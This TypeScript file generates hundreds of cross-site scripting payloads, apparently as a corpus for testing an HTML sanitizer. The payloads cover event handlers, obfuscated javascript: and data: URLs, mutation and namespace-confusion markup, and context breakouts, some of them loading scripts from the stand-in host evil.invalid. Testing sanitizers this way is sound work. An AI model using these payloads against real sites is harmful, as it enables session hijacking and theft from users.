/** What a vector runs: the page that is attacked says whether it ran, and a dialog opens where that is not seen. */
const RUN = 'xss(1)'

const QUOTES = ['"', "'", '']
const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onpointerenter',
  'ontoggle',
  'onanimationstart',
  'onbegin',
]
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'iframe',
  'marquee',
  'x-xss',
]

/** Handlers on elements, with what may stand between a name, an attribute and its value. */
function handlers(): string[] {
  const spaced = [' ', '/', '\t', '\n', '\f', '\r', ' / ', '/x=y/', '\u000b']
  const plain = ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} ${event}=${RUN}>`))
  const separated = spaced.flatMap((space) => [
    `<img${space}src=x${space}onerror=${RUN}>`,
    `<svg${space}onload${space}=${space}${RUN}>`,
  ])
  const quoted = QUOTES.map((quote) => `<img src=${quote}x${quote} ONerror=${quote}${RUN}${quote}>`)
  return [
    ...plain,
    ...separated,
    ...quoted,
    `<img src=x onerror="&#120;&#115;&#115;&#40;1)">`,
    `<img src=x onerror=\`${RUN}\`>`,
    `<img src="x" src="y" onerror="${RUN}" onerror="${RUN}">`,
    `<img alt="<x" title="/><img src=x onerror=${RUN}>">`,
    `<img alt='"' onerror=${RUN} src=x '>`,
    `<p data-product-id="1" onclick="${RUN}">x</p>`,
    `<div data-product-id='1"><img src=x onerror=${RUN}>'></div>`,
  ]
}

/** `javascript:` and its kin as browsers still read them, in every attribute that holds an address. */
function addresses(): string[] {
  const schemes = [
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    '\u0001javascript:',
    '\u001fjavascript:',
    '\u00a0javascript:',
    'java\tscript:',
    'java\nscript:',
    'java\r\nscript:',
    'java&Tab;script&colon;',
    'java&NewLine;script:',
    '&#106;avascript:',
    '&#0000106avascript:',
    '&#x6A;avascript&#58;',
    '&#x6a&#x61&#x76&#x61script:',
    'javascript&#x3A;',
    'java\0script:',
    'java&#0;script:',
    'java<!-- -->script:',
    'java/**/script:',
    'feed:javascript:',
    'view-source:javascript:',
    'vbscript:',
    'data:text/html,<script>xss(1)</script>',
    'data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=',
    'data:image/svg+xml,<svg onload=xss(1)>',
    'blob:https://evil.invalid/',
    'file:///etc/passwd',
    '//evil.invalid/',
    '\\\\evil.invalid/',
    '/\\evil.invalid/',
    '/\t/evil.invalid/',
    'https:evil.invalid',
    'http://evil.invalid/',
  ]
  const holders = (address: string) => [
    `<a href="${address}${RUN}">x</a>`,
    `<a href='${address}${RUN}' target=_blank>x</a>`,
    `<img src="${address}${RUN}">`,
    `<iframe src="${address}${RUN}"></iframe>`,
    `<form action="${address}${RUN}"><button formaction="${address}${RUN}">x</button></form>`,
    `<svg><a xlink:href="${address}${RUN}" href="${address}${RUN}"><text>x</text></a></svg>`,
    `<math href="${address}${RUN}"><maction actiontype="statusline#x" xlink:href="${address}${RUN}">x</maction></math>`,
  ]
  return [
    ...schemes.flatMap(holders),
    `<object data="javascript:${RUN}"></object>`,
    `<embed src="javascript:${RUN}">`,
    `<base href="javascript:${RUN}//"><a href="x">x</a>`,
    `<base href="//evil.invalid/">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
    `<meta http-equiv="refresh" content="0;url=https://evil.invalid/">`,
    `<link rel="stylesheet" href="https://evil.invalid/x.css"><link rel="import" href="data:text/html,x">`,
    `<script src="https://evil.invalid/x.js"></script>`,
    `<script src=//evil.invalid/x.js>`,
    `<img srcset="https://evil.invalid/x 1x, javascript:${RUN} 2x">`,
    `<video poster="javascript:${RUN}"><source src=x onerror=${RUN}></video>`,
    `<audio src=x onerror=${RUN}><track src="javascript:${RUN}"></audio>`,
    `<a href="#" ping="https://evil.invalid/">x</a>`,
    `<iframe src="https://www.youtube-nocookie.com.evil.invalid/embed/x"></iframe>`,
    `<iframe src="https://www.youtube-nocookie.com@evil.invalid/embed/x"></iframe>`,
    `<iframe src="https://evil.invalid\\@www.youtube-nocookie.com/embed/x"></iframe>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<iframe src="https://player.vimeo.com/x" srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  ]
}

/** Markup that reads one way to a cleaner and another way to a browser: raw text, comments, foreign content, broken tags. */
function mutations(): string[] {
  const payload = `<img src=x onerror=${RUN}>`
  const raw = [
    'style',
    'title',
    'textarea',
    'noscript',
    'xmp',
    'iframe',
    'noembed',
    'noframes',
    'template',
    'plaintext',
    'listing',
    'select',
    'option',
    'script',
  ]
  const foreign = ['svg', 'math']
  const integration = [
    'desc',
    'title',
    'foreignObject',
    'mtext',
    'mi',
    'mo',
    'ms',
    'annotation-xml',
    'mglyph',
    'malignmark',
  ]
  return [
    ...raw.flatMap((name) => [
      `<${name}>${payload}</${name}>`,
      `<${name}><p title="</${name}>${payload}"></${name}>`,
      `<${name}><!--</${name}>${payload}--></${name}>`,
      `</${name}>${payload}`,
      `<p><${name}/>${payload}</p>`,
    ]),
    ...foreign.flatMap((root) => [
      ...raw.map((name) => `<${root}><${name}>${payload}</${name}></${root}>`),
      ...raw.map((name) => `<${root}></p><${name}><a id="</${name}>${payload}">`),
      ...integration.map(
        (name) => `<${root}><${name}><style><!--</style>${payload}--></style></${name}></${root}>`,
      ),
      `<${root}><![CDATA[><${payload}]]></${root}>`,
      `<${root}><p>${payload}`,
    ]),
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math>${payload}`,
    `<math><annotation-xml encoding="text/html"><style>${payload}</style></annotation-xml></math>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><set attributeName="href" to="javascript:${RUN}"></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'></svg>#x"></use></svg>`,
    `<svg><script href="data:,${RUN}"></script></svg>`,
    `<svg><script>${RUN}&lt;/script></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></foreignObject></svg>`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<!---><img src=x onerror=${RUN}>-->`,
    `<!--!><img src=x onerror=${RUN}>-->`,
    `<!-- --!><img src=x onerror=${RUN}>-->`,
    `<!--[if gte IE 4]>${payload}<![endif]-->`,
    `<![CDATA[<!--]]>${payload}<!--]]>`,
    `<?xml version="1.0"?><?x ${payload}?>`,
    `<!DOCTYPE x [<!ENTITY y "${payload}">]>&y;`,
    `<<img src=x onerror=${RUN}>>`,
    `<\0img src=x onerror=${RUN}>`,
    `<im\0g src=x onerror=${RUN}>`,
    `<img src=x one\0rror=${RUN}>`,
    `< img src=x onerror=${RUN}>`,
    `</ img src=x onerror=${RUN}>`,
    `<img src=x onerror=${RUN}`,
    `<img src=x onerror=${RUN}//`,
    `<a href="x" <img src=x onerror=${RUN}>`,
    `<p title="&quot;&gt;${payload}">x</p>`,
    `<a title="&lt;img src=x onerror=${RUN}&gt;" href="/">x</a>`,
    `&lt;img src=x onerror=${RUN}&gt;`,
    `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
    `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
    `<ſcript>${RUN}</ſcript>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script>${RUN}`,
    `<script/x>${RUN}</script/x>`,
    `<script>${RUN}</script\n>`,
    `<table><td><tr>${payload}</table>`,
    `<table background="javascript:${RUN}"><td background="javascript:${RUN}">x</table>`,
    `<b><p><b><table><b>${payload}`,
    `<h2>x${'<b>'.repeat(40)}${payload}`,
    `<div>${'<p>'.repeat(60)}${payload}`,
    `<p style="background:url(javascript:${RUN})">x</p>`,
    `<p style="animation:x" onanimationstart="${RUN}">x</p>`,
    `<style>@import 'https://evil.invalid/x.css';*{background:url(https://evil.invalid/)}</style>`,
    `<x-xss is="x" onclick=${RUN}>x</x-xss>`,
    `<p is="x-xss" contenteditable autofocus onfocus=${RUN}>x</p>`,
    `<a name="xss" id="document"><a id="documentElement">x</a>`,
    `<form id="document"><input name="cookie"><input name="body"></form>`,
    `<img name="getElementById" src="x">`,
    `<template shadowrootmode="open"><img src=x onerror=${RUN}></template>`,
    `<button popovertarget="x" onclick=${RUN}>x</button><p popover id="x" onbeforetoggle=${RUN}>x</p>`,
    `<img src=x crossorigin onerror=${RUN} loading=lazy>`,
    `<input type="image" src="x" formaction="javascript:${RUN}">`,
    `<isindex action="javascript:${RUN}" type="image">`,
    `<keygen autofocus onfocus=${RUN}>`,
    `<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`,
  ]
}

/** Ways out of the places where a page writes text: an element, an attribute, a script, JSON in a script, a title, a comment. */
export const BREAKOUTS: readonly string[] = [
  `<x-xss onclick=${RUN}>`,
  `"><x-xss onclick=${RUN}>`,
  `'><x-xss onclick=${RUN}>`,
  `" onclick="${RUN}" x="`,
  `' onclick='${RUN}' x='`,
  `</script><script>${RUN}</script>`,
  `</SCRIPT ><x-xss onclick=${RUN}>`,
  `<!--<script>`,
  `</title><x-xss onclick=${RUN}>`,
  `</textarea><x-xss onclick=${RUN}>`,
  `--><x-xss onclick=${RUN}>`,
  `]]><x-xss onclick=${RUN}>`,
  `\\"};${RUN}//`,
  `\u2028${RUN}\u2029`,
  `&quot;&gt;&lt;x-xss&gt;`,
  `&#34;><x-xss>`,
  `javascript:${RUN}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `[x](javascript:${RUN})`,
  `![x](x" onerror="${RUN})`,
]

/** Vectors made from published techniques: those of OWASP's cheat sheet, and mutations and confusions of namespaces since. */
export const techniques = (): string[] => [
  ...new Set([...handlers(), ...addresses(), ...mutations(), ...BREAKOUTS]),
]
